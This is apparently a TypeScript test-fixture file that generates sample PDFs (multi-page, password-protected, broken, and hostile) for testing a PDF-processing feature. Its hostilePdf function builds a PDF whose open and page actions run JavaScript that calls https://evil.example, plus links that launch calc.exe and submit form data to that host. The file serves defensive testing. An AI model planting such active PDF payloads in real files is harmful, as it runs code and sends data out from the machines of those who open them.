import { pdfOf } from '../../../src-desk/practice/drawing/pdf';

/** A PDF of some pages, each with its number in words that can be found. */
export function pdfOfPages(count: number): Uint8Array {
  // As many lines as a page takes.
  const lines = Array.from({ length: count }, (_, page) =>
    Array.from({ length: 40 }, (__, line) => ({
      text: line === 0 ? `Terms, part ${page + 1}` : `Clause ${page + 1}.${line}`,
      heading: line === 0,
    })),
  );
  return pdfOf(lines.flat());
}

/**
 * A PDF that wants to run a script when it is opened, to start a program, to send what is in it, and
 * to open a page, wherever somebody clicks.
 */
export function hostilePdf(): Uint8Array {
  const script = String.raw`/S /JavaScript /JS (app.alert\('owned'\); top.document.title = 'owned'; fetch\('https://evil.example'\);)`;
  const content = 'BT /F1 24 Tf 72 700 Td (Please pay at once) Tj ET';
  return fileOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${script} >> /AA << /WC << ${script} >> >> ` +
      `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >> >>`,
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R ' +
      '/Resources << /Font << /F1 3 0 R >> >> /Annots [6 0 R 7 0 R 8 0 R] ' +
      `/AA << /O << ${script} >> >> >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (https://evil.example) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /Launch /F (calc.exe) >> >>',
    '<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 612 792] ' +
      '/A << /S /SubmitForm /F (https://evil.example) >> >>',
  ]);
}

/** A PDF that nobody can read without a password. */
export function protectedPdf(): Uint8Array {
  const key = `<${'5a'.repeat(32)}>`;
  return fileOf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
      `<< /Filter /Standard /V 1 /R 2 /O ${key} /U ${key} /P -4 >>`,
    ],
    '/Encrypt 4 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]',
  );
}

/** A file that begins as a PDF and holds none. */
export function brokenPdf(): Uint8Array {
  return Buffer.from(`%PDF-1.7\n${'not a pdf at all '.repeat(64)}`, 'latin1');
}

function fileOf(objects: readonly string[], trailer = ''): Uint8Array {
  let file = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const places = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`);
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}`;
  const end = `trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.from(file + table + end, 'latin1');
}
